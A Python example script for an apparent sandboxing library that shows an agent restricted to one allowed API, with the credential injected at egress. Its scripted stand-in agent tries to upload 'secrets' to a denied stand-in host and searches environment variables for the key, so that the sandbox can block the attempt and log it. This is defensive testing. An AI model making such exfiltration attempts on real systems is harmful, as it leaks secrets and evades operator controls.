"""An agent sandbox that can reach one API and nothing else, with a credential it never sees.

    python examples/allowlisted_agent.py

Offline: the "internet" is two containers this script starts on an internal Docker network
(``allowed.test``, the agent's API, and ``denied.test``, somewhere it must not go), from
``sandboxkit_conformance.testhosts``. The API key lives in the local secret store (a temporary
one here); the sandbox's egress adds it as ``Authorization`` to requests for ``allowed.test``, so
the agent's code sends no key and cannot leak one. The "agent" is a fixed script standing in for
an LLM's tool calls: it calls the API, then tries to send data to the other host.
"""

from __future__ import annotations

import json
import os
import tempfile
from typing import Any

import docker

from sandboxkit import HeaderInjection, NetworkPolicy, Sandbox
from sandboxkit.secrets import create_secret

#: what the agent runs (its tool calls): one API call, one exfiltration attempt, one look for a key
AGENT = r"""
import json, os, urllib.request
def get(url):
    try:
        with urllib.request.urlopen(url, timeout=10) as r:
            return {"status": r.status, "body": json.loads(r.read())}
    except Exception as e:
        return {"error": f"{type(e).__name__}: {e}"}
api = get("https://allowed.test/v1/answer")
leak = get("http://denied.test/upload?data=secrets")
keys = [k for k, v in os.environ.items() if "example-key" in v]
print(json.dumps({"api": api, "leak": leak, "key_in_env": keys}))
"""


def run() -> dict[str, Any]:
    """Start the hosts, run the agent in a policy sandbox, return what it saw and what was denied."""
    from sandboxkit_conformance.testhosts import network_hosts

    os.environ.setdefault("XDG_CONFIG_HOME", tempfile.mkdtemp(prefix="sbk-example-"))
    create_secret("example-api", {"API_TOKEN": "example-key-1234"}, overwrite=True)
    client = docker.from_env()
    with network_hosts(client, {"sandboxkit.label.example": "allowlisted_agent"}) as hosts:
        policy = NetworkPolicy(
            allow_domains=[hosts.allowed],
            inject=[
                HeaderInjection(
                    domain=hosts.allowed, secret="example-api", headers={"Authorization": "Bearer $API_TOKEN"}
                )
            ],
            upstream_ca=hosts.ca_pem,  # the test hosts' own CA; real APIs need none
        )
        with Sandbox.create(network=policy, provider_options={"egress_network": hosts.network}, timeout=300) as sandbox:
            sandbox.write_file("/work/agent.py", AGENT)
            seen = json.loads(sandbox.execute(["python3", "/work/agent.py"], check=True).stdout)
            denied = [e for e in sandbox.network_log() if e.verdict == "denied"]
    headers = seen["api"].get("body", {}).get("headers", {})
    return {
        "api_status": seen["api"].get("status"),
        "api_got_key": headers.get("Authorization") == "Bearer example-key-1234",
        "leak": seen["leak"],
        "key_in_sandbox_env": seen["key_in_env"],
        "denied": [(e.host or e.address, e.port, e.reason) for e in denied],
    }


if __name__ == "__main__":
    result = run()
    print(f"API call: HTTP {result['api_status']}, the API received the key: {result['api_got_key']}")
    print(f"exfiltration attempt: {result['leak']}")
    print(f"key visible in the sandbox's environment: {bool(result['key_in_sandbox_env'])}")
    for host, port, reason in result["denied"]:
        print(f"denied: {host}:{port} ({reason})")
